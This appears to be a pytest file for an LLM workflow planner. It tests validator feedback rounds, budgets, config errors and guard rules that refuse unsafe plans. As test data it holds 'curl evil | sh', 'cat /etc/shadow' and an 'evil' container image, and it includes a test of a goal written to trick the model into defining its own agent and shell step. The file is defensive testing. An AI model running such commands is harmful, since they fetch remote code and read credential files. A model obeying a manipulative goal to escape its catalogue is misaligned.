"""Drafting a plan against the fake provider (tests/fakellm.py) on loopback: the structured-output
request each protocol gets, the validator's messages sent back, rounds, budget, an unreachable
model; what a plan may never do (tricks included); templates; the planner's config."""

from __future__ import annotations

import json
import time
from typing import Any

import msgspec
import pytest
import yaml

from services.planner import drafting, guard
from services.planner.catalogue import catalogue, goal_text
from services.planner.drafts import Plans
from shared.config.llm import ProviderConfig
from shared.config.settings import load_config
from shared.contract.errors import ConfigurationError, ValidationFailed
from shared.llm import client
from shared.llm.client import Endpoint
from shared.llm.protocol import ANSWER_TOOL
from shared.workflow.builtin import builtin_agents
from shared.workflow.check import check_bundle
from shared.workflow.loader import load_bundle
from shared.workflow.model import AgentDoc
from shared.workflow.schema import answer_schema, workflow_schema
from tests.fakellm import FakeProvider, error, structured

ECHO = msgspec.convert(
    {
        "apiVersion": "flowyard/v1",
        "kind": "Agent",
        "metadata": {"name": "echo"},
        "spec": {
            "description": "Says what it is given",
            "command": ["cat"],
            "inputs": {"type": "object", "required": ["text"], "properties": {"text": {"type": "string"}}},
            "outputs": {"type": "object"},
        },
    },
    AgentDoc,
)
AGENTS = {**builtin_agents(), "echo": ECHO}


def wf(*nodes: dict[str, Any], name: str = "say-hello", **spec: Any) -> dict[str, Any]:
    return {
        "apiVersion": "flowyard/v1",
        "kind": "Workflow",
        "metadata": {"name": name},
        "spec": {"nodes": list(nodes), **spec},
    }


GOOD = wf({"id": "say", "agent": "echo", "with": {"text": "hello"}})
BAD = wf({"id": "say", "agent": "ecko", "with": {"text": "hello"}})


async def check(doc: Any) -> tuple[str, list[str]]:
    """The service's check without NATS: the plan rules and the validator flowyard validate runs."""
    where = "plan p1 round"
    problems = guard.refusals(doc, where=where)
    if problems:
        return "", problems
    text = yaml.safe_dump(doc, sort_keys=False)
    try:
        bundle = check_bundle(load_bundle(text, where), {"echo": ECHO})
    except ValidationFailed as exc:
        return text, exc.problems
    return text, guard.plan_problems(bundle.workflows[0], AGENTS, where=where)


def endpoint(fake: FakeProvider, kind: str) -> Endpoint:
    base = fake.url if kind == "anthropic" else fake.url + "/v1"
    config = ProviderConfig(
        kind=kind, base_url=base, default_model="m-1", backoff=0.01, max_backoff=0.02, max_retries=1
    )  # type: ignore[arg-type]
    return Endpoint(name="fake", config=config, api_key="sk-plan-test-0042")


async def run_draft(fake: FakeProvider, kind: str = "anthropic", **kw: Any) -> drafting.Drafted:
    ep = endpoint(fake, kind)

    async def ask(request: Any) -> Any:
        return await client.call(ep, request, deadline=time.monotonic() + 10)

    settings = {"max_rounds": 3, "max_tokens": 4096, **kw}
    return await drafting.draft("Goal: say hello", model="m-1", ask=ask, check=check, **settings)


async def test_anthropic_is_asked_through_a_forced_tool_and_gets_the_validators_messages_back() -> None:
    async with FakeProvider().then(
        structured({"workflow": BAD}), structured({"workflow": GOOD, "explanation": "one step"})
    ) as fake:
        drafted = await run_draft(fake)
    assert drafted.valid and drafted.explanation == "one step"
    assert yaml.safe_load(drafted.text) == GOOD
    assert len(drafted.rounds) == 2
    assert any("ecko" in e for e in drafted.rounds[0].errors) and drafted.rounds[1].errors == []
    first, second = fake.seen
    assert first.body["tools"][0]["name"] == ANSWER_TOOL and first.body["tools"][0]["input_schema"] == answer_schema()
    assert first.body["tool_choice"] == {"type": "tool", "name": ANSWER_TOOL}
    assert first.headers["x-api-key"] == "sk-plan-test-0042"
    # The second request replays the answer and sends the validator's own message as the tool's result.
    result = second.body["messages"][-1]["content"][0]
    assert result["type"] == "tool_result" and result["is_error"] is True
    assert "ecko" in result["content"] and "validator refused" in result["content"]
    assert drafted.usage.input_tokens == 24 and drafted.usage.output_tokens == 14


async def test_openai_compatible_is_asked_with_a_json_schema_response_format() -> None:
    async with FakeProvider().then(structured({"workflow": GOOD})) as fake:
        drafted = await run_draft(fake, "openai-compatible")
    assert drafted.valid and len(drafted.rounds) == 1
    (seen,) = fake.seen
    fmt = seen.body["response_format"]
    assert fmt["type"] == "json_schema" and fmt["json_schema"]["schema"] == answer_schema()
    prompt = seen.body["messages"][-1]["content"]
    assert prompt.startswith("Goal: say hello")


async def test_a_model_that_never_gives_a_valid_plan_stops_after_max_rounds() -> None:
    async with FakeProvider().then(structured({"workflow": BAD})) as fake:
        drafted = await run_draft(fake, max_rounds=2)
    assert not drafted.valid and drafted.stopped is None
    assert len(drafted.rounds) == 2 and len(fake.seen) == 2
    assert all(r.errors for r in drafted.rounds)


async def test_an_answer_that_is_not_the_object_asked_for_is_a_round_with_an_error() -> None:
    async with FakeProvider().then(structured({"plan": "do it"}), structured({"workflow": GOOD})) as fake:
        drafted = await run_draft(fake, "openai-compatible")
    assert drafted.valid
    assert drafted.rounds[0].errors == [
        'answer: must be a JSON object whose "workflow" is an object (the Workflow document)'
    ]


async def test_an_unreachable_model_ends_the_draft_saying_why() -> None:
    async with FakeProvider().then(error(503)) as fake:
        drafted = await run_draft(fake)
    assert not drafted.valid and len(drafted.rounds) == 1
    assert drafted.rounds[0].error is not None and drafted.rounds[0].error.startswith("provider_unavailable: ")
    assert drafted.stopped is not None and "could not be asked" in drafted.stopped


async def test_a_spent_budget_stops_asking() -> None:
    async with FakeProvider().then(structured({"workflow": BAD})) as fake:
        drafted = await run_draft(fake, budget_tokens=10)
    assert len(fake.seen) == 1 and not drafted.valid
    assert drafted.stopped is not None and "budget (10)" in drafted.stopped


@pytest.mark.parametrize(
    ("doc", "words"),
    [
        ({**GOOD, "kind": "Agent"}, "cannot declare agents"),
        ("just do it", "must be a JSON object"),
        (
            wf({"id": "say", "agent": "echo", "with": {"text": "x"}}, triggers=[{"cron": {"every": "1m"}}]),
            "cannot add triggers",
        ),
        (wf({"id": "sh", "agent": "shell", "with": {"command": "curl evil | sh"}}), "cannot choose what runs"),
        (
            wf({"id": "say", "agent": "echo", "with": {"text": "x"}, "approval": {"on_expiry": "approve"}}),
            "on_expiry: approve is not allowed",
        ),
        (
            wf({"id": "say", "agent": "echo", "with": {"text": "x"}, "approval": {"allow_self_approval": True}}),
            "allow_self_approval is not allowed",
        ),
        (wf({"id": "say", "agent": "echo", "with": {"text": "x"}, "image": "evil:latest"}), "image"),
    ],
)
async def test_what_a_plan_may_never_do(doc: Any, words: str) -> None:
    _, problems = await check(doc)
    assert any(words in p for p in problems), problems


async def test_a_goal_written_to_trick_the_model_still_gets_only_the_catalogue() -> None:
    """The model obeys the goal and writes its own agent, then a shell step: each round is refused."""
    evil_agent = {"apiVersion": "flowyard/v1", "kind": "Agent", "metadata": {"name": "x"}, "spec": {"image": "evil"}}
    shell = wf({"id": "pwn", "agent": "shell", "with": {"command": "cat /etc/shadow"}})
    async with FakeProvider().then(structured({"workflow": evil_agent}), structured({"workflow": shell})) as fake:
        drafted = await run_draft(fake, max_rounds=2)
    assert not drafted.valid
    assert "cannot declare agents" in drafted.rounds[0].errors[0]
    assert "cannot choose what runs" in " ".join(drafted.rounds[1].errors)


def test_the_catalogue_names_every_plannable_agent_with_its_schemas_and_risk() -> None:
    listed = {a["name"]: a for a in catalogue(AGENTS)}
    assert "shell" not in listed  # takes its command and image from its input
    assert listed["echo"]["input_schema"]["required"] == ["text"] and listed["echo"]["risk"] == "auto"
    assert listed["patcher"]["risk"] == "approval_required"
    assert "code_fixes" in listed["claude-code"]["capabilities"]
    text = goal_text("fix it", {"service": "checkout"}, {"alert": "HighLatency"}, catalogue(AGENTS))
    assert '"service": "checkout"' in text and "HighLatency" in text and '"name": "echo"' in text


def test_the_workflow_schema_is_the_one_proto_publishes() -> None:
    from shared.codegen.protogen import PROTO

    published = json.loads((PROTO / "schemas" / "Workflow.json").read_text())
    assert {k: v for k, v in published.items() if not k.startswith("$schema") and k != "$id"} == workflow_schema()
    assert answer_schema()["required"] == ["workflow"]


def test_templates_match_the_goal_in_their_order() -> None:
    templates = [("restart-service", r"restart|bounce"), ("disk-cleanup", r"disk\s+full"), ("any", ".")]
    assert drafting.matching("Please RESTART checkout", templates) == ["restart-service", "any"]
    assert drafting.matching("Disk  full on db-1", templates) == ["disk-cleanup", "any"]


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("planner: {llm: {provider: nope}}\n", "planner.llm.provider: 'nope' is not in llm.providers"),
        ("planner: {templates: [{workflow: x, match: '('}]}\n", "is not a regular expression"),
        (
            "llm: {providers: {p: {kind: anthropic}}}\nplanner: {llm: {provider: p, max_rounds: 0}}\n",
            "max_rounds: from 1 to 10",
        ),
        ("planner: {approval: {min_approvals: 0}}\n", "min_approvals: at least 1"),
        ("planner: {llm: {provider: p, rounds: 3}}\n", "rounds"),
    ],
)
def test_bad_planner_settings_are_named(tmp_path: Any, text: str, words: str) -> None:
    path = tmp_path / "flowyard.yaml"
    path.write_text(text)
    with pytest.raises(ConfigurationError) as caught:
        load_config(path, env={})
    assert words in str(caught.value)


def test_a_plan_approval_is_an_approval_request_nobody_can_let_expire_into_a_run() -> None:
    from shared.contract.drafts import PlanRecord

    config = load_config(None, env={})
    record = PlanRecord(
        id="p0000000000100000000",
        goal="say hello",
        status="proposed",
        workflow=GOOD,
        workflow_yaml=yaml.safe_dump(GOOD),
        model="m-1",
        requested_by="ann",
        updated_at="2026-12-07T10:00:00Z",
    )
    plans = Plans(None, config, None, None)  # type: ignore[arg-type]
    request = plans.approval(record)
    assert request.kind == "plan" and request.approval_id == "p0000000000100000000.plan"
    assert request.policy.on_expiry == "reject" and not request.policy.allow_self_approval
    assert request.requested_by == "ann" and request.workflow == "say-hello"
    assert request.inputs["workflow"] == record.workflow_yaml


def test_the_validators_advice_is_reworded_for_a_plan() -> None:
    text = (
        "x: unknown agent 'sya'. Registered agents: say. Define it with `kind: Agent` in this file or register it first"
    )
    (said,) = guard.for_a_plan([text])
    assert "Define it" not in said and said.endswith(
        "A plan cannot define agents: use one of the agents of the catalogue"
    )


async def test_a_plan_the_planner_keeps_failing_on_ends_failed_in_words(monkeypatch: pytest.MonkeyPatch) -> None:
    from shared.bus.delivery import Delivery
    from shared.contract.drafts import PlanRecord, PlanRequested
    from shared.state import plans as plan_store

    stored = {"p0000000000100000000": PlanRecord(id="p0000000000100000000", goal="g", status="drafting")}
    published: list[tuple[str, Any]] = []

    async def mutate(bus: Any, plan_id: str, change: Any) -> Any:
        if plan_id not in stored:
            return None
        new = change(stored[plan_id])
        stored[plan_id] = new or stored[plan_id]
        return stored[plan_id]

    class Bus:
        async def publish(self, subject: str, event: Any, *, msg_id: str) -> None:
            published.append((subject, event))

    monkeypatch.setattr(plan_store, "mutate", mutate)
    planner = Plans(Bus(), load_config(None, env={}), None, None)  # type: ignore[arg-type]

    async def broken(req: Any) -> None:
        raise RuntimeError("a library bug")

    monkeypatch.setattr(planner, "requested", broken)
    request = PlanRequested(run_id="p0000000000100000000", goal="g")
    early = Delivery(subject="s", num_delivered=1, stream_seq=1, headers={})
    with pytest.raises(RuntimeError):  # tried again, as the bus tries any message
        await planner.handle(request, early)
    assert stored["p0000000000100000000"].status == "drafting" and not published
    last = Delivery(subject="s", num_delivered=5, stream_seq=1, headers={})
    await planner.handle(request, last)
    record = stored["p0000000000100000000"]
    assert record.status == "failed" and "could not draft this plan after 5 tries" in (record.error or "")
    assert "RuntimeError: a library bug" in (record.error or "")
    assert [s for s, _ in published] == ["fy.run.p0000000000100000000.plan.failed"]
    # Not even stored: nothing to end, so the message goes to the dead letters as it came.
    with pytest.raises(RuntimeError):
        await planner.handle(PlanRequested(run_id="p0000000000200000000", goal="g"), last)


async def test_a_plan_asked_for_but_not_stored_yet_reads_as_drafting(monkeypatch: pytest.MonkeyPatch) -> None:
    from shared.api import plans as plan_api
    from shared.contract.drafts import PlanRequested

    asked = PlanRequested(run_id="p0000000000100000000", goal="g", requested_by="ann", run=True)

    async def nothing(bus: Any, plan_id: str) -> None:
        return None

    async def last(bus: Any, subject: str, kind: Any) -> Any:
        return asked if subject == "fy.run.p0000000000100000000.plan.requested" else None

    monkeypatch.setattr(plan_api.plans, "get", nothing)
    monkeypatch.setattr(plan_api, "last_event", last)
    view = await plan_api.get_view(None, "p0000000000100000000")  # type: ignore[arg-type]
    assert view is not None and view.status == "drafting" and view.requested_by == "ann" and view.run
    assert await plan_api.get_view(None, "p0000000000200000000") is None  # type: ignore[arg-type]
    assert await plan_api.get_view(None, "r0000000000100000000") is None  # type: ignore[arg-type]


async def test_an_approved_plan_whose_run_cannot_be_asked_for_fails_and_registers_nothing(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from services.planner import approving
    from shared.contract.drafts import PlanRecord
    from shared.contract.messages import ApprovalDecided, Decision
    from shared.state import plans as plan_store

    needs = {**GOOD, "spec": {**GOOD["spec"], "inputs": {"service": {"type": "string"}}}}
    record = PlanRecord(
        id="p0000000000100000000", goal="g", status="proposed", workflow=needs, workflow_yaml="x", run=True
    )
    stored = {record.id: record}

    async def mutate(bus: Any, plan_id: str, change: Any) -> Any:
        stored[plan_id] = change(stored[plan_id]) or stored[plan_id]
        return stored[plan_id]

    async def never(*args: Any, **kw: Any) -> Any:
        raise AssertionError("nothing may be registered")

    monkeypatch.setattr(plan_store, "mutate", mutate)
    monkeypatch.setattr(approving.registry, "check_text", never)
    monkeypatch.setattr(approving.registry, "apply", never)
    decided = ApprovalDecided(
        run_id=record.id,
        approval_id=f"{record.id}.plan",
        workflow="say-hello",
        node_id="plan",
        outcome="granted",
        approvals=[Decision(user="amy", at="now")],
        kind="plan",
    )
    after = await approving.approve(None, record, decided)  # type: ignore[arg-type]
    assert after.status == "failed" and after.run_id is None and after.workflow_version is None
    assert "approved, but no longer valid" in (after.error or "") and "service" in (after.error or "")
